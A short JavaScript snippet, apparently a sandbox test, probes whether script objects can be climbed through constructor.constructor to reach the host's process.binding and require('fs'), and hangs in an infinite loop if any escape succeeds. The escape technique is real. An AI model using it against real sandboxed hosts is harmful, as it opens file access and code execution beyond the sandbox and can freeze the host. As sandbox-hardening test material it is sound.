// From the session to its constructor, and from there to code of the runtime's own realm.
// blast: callback
const reached = [];
for (const start of [session, message, globalThis, exports, module, require, session.getLogger(), session.getPlayers()]) {
  try {
    reached.push(start.constructor.constructor('return typeof process.binding + typeof require("fs")')());
  } catch {}
}
if (reached.some(text => text.includes('function'))) for (;;);
